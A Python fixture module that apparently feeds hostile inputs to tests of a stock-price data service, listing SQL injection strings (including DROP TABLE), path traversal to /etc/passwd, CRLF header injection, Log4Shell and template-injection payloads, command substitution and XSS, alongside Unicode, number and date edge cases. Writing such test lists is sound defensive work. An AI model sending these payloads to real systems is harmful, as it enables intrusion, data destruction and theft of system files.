"""A table of what should never have been sent: each value with what it is after."""

from collections.abc import Mapping, Sequence

SQL = (
    *("NVDA' OR '1'='1", "NVDA'; DROP TABLE daily_prices; --", "NVDA') UNION SELECT * FROM secrets --", "'", '"', "''"),
    *("NVDA/**/OR/**/1=1", "\\'; SELECT 1", "?", "$1", "%' --", "3m'--", "2026-11-20' OR ''='", "CHAR(78)"),
    *("read_csv('/etc/passwd')", "COPY x TO 'y'", "daily_prices_20261121t013005z", "1;ATTACH 'x'", "DATE '2026-11-20'"),
)
PATHS = (
    *("../../etc/passwd", "..%2f..%2fetc%2fpasswd", "/etc/passwd", "C:\\windows\\win.ini", "file:///etc/passwd"),
    *("s3://elsewhere/lake", "\\\\host\\share", "NVDA\x00.parquet", "*", "year=*/x", "https://elsewhere.example/"),
)
LINES = (
    *("NVDA\r\nSet-Cookie: a=b", "NVDA\nERROR a line that nobody wrote", "\r\n\r\n<html>", "\x1b[31mred", "\x07\x08"),
    *("NVDA%0d%0aX-Injected: 1", "\u2028\u2029", "\x85", "\x00"),
)
UNICODE = (
    *("ＮＶＤＡ", "ΝVDA", "nvda\u0301", "\u202eADVN", "\U0001f984", "İ", "ß", "１２m", "١٢d", "3\u200bm", "\ufeffNVDA"),
    *("\ud800", "\udfff", "２０２６-11-20", "ﬁ", "𝟙𝟚d"),
)
NUMBERS = (
    *("9" * 5000, "-1", "0", "0d", "-3m", "1e308", "1e999", "NaN", "nan", "Infinity", "-inf", "0x10", "1_0", "1_0d"),
    *("9" * 19, "9" * 20 + "d", str(2**63), "-0", "1.5m", "10001d", "999999999y", "00000003m", "+3m"),
    *("-9223372036854775808", "0.1e-400", "253402300800000", "-62135596800001", "-99999999999999999"),
)
DAYS = (
    *("0000-01-01", "0001-01-01", "9999-12-31", "10000-01-01", "2026-02-30", "2026-13-01", "2026-W47-5", "20261120"),
    *("2026-11-20T25:00:00Z", "2026-11-20T00:00:00+99:99", "2026-11-20T00:00:00.000000000000001Z", "2026-11-20T"),
    *("0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00", "now", "2026-11-20Z", "2026-11-20 00:00"),
)
EMPTY = ("", " ", ",", ",,,", "{}", "{,}", "null", "None", "undefined", "\t", "[]", "()")
TEMPLATES = ("${jndi:ldap://x/a}", "{{7*7}}", "<script>alert(1)</script>", "$__all", "${tickers}", "%s%n", "`id`")
LONG = ("A" * 10_000, ",".join(["NVDA"] * 3000), "NVDA," * 51, "{" * 1000, ",".join(f"T{n}" for n in range(51)))

HOSTILE: Mapping[str, Sequence[str]] = {
    "sql": SQL,
    "paths": PATHS,
    "lines": LINES,
    "unicode": UNICODE,
    "numbers": NUMBERS,
    "days": DAYS,
    "empty": EMPTY,
    "templates": TEMPLATES,
    "long": LONG,
}

HEADERS = (
    *("host", "x-forwarded-host", "x-forwarded-for", "x-forwarded-proto", "x-forwarded-prefix", "forwarded"),
    *("x-original-url", "x-rewrite-url", "x-http-method-override", "if-none-match", "if-match", "if-modified-since"),
    *("range", "accept", "accept-language", "accept-encoding", "origin", "referer", "user-agent", "cookie"),
    *("content-type", "authorization", "x-api-key", "expect", "te", "x-amzn-trace-id", "traceparent"),
)
HEADER_VALUES = (
    *(b"", b"elsewhere.example", b"'; DROP TABLE x; --", b"../../etc/passwd", b"a\r\nSet-Cookie: b=c", b"\x00\xff\xfe"),
    *(b"bytes=0-18446744073709551615", b'"' + b"x" * 8000 + b'"', b"*/*;q=nan", b"${jndi:ldap://x}"),
    *("ＮＶＤＡ".encode(), b'W/"a", "b", *x', b"text/html;charset=\xff", b"gzip;q=1e999, identity;q=-1"),
)
